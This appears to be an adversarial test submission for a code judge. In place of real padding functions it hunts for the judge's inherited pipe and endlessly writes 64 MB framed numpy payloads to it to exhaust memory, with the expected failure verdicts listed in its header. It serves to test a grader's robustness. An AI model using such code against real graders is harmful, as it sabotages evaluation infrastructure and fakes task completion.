# expect:
#   verdict: [over-memory, over-time, wrong, raised]
#   earned: 0
#   call_seconds: 2
# sentence: Sends whole answers of 64 MB without end: a judge that stores what it has not asked for runs out of memory.

import contextlib, fcntl, io, json, os, stat, struct

import numpy as np

def send(data):
    for fd in range(3, 256):
        with contextlib.suppress(OSError):
            pipe = stat.S_IFMT(os.fstat(fd).st_mode) in (stat.S_IFIFO, stat.S_IFSOCK)
            if pipe and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE:
                return os.write(fd, data)

def frame(header, body=b""):
    header = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<4sIQ", b"CNG1", len(header), len(body)) + header + body

def attack():
    blob = io.BytesIO()
    np.lib.format.write_array(blob, np.ones(8 << 20), version=(1, 0))
    data = frame({"m": {"id": 0, "ok": True, "value": {"a": 0}}, "sizes": [len(blob.getvalue())]}, blob.getvalue())
    while "@JUDGE@".isdigit():
        send(data)

def pad2d(x, padding, value=0.0):
    attack()
    return np.zeros(1)

def output_size(size, kernel, stride=1, padding=0):
    return 0

def same_padding(kernel):
    return 0
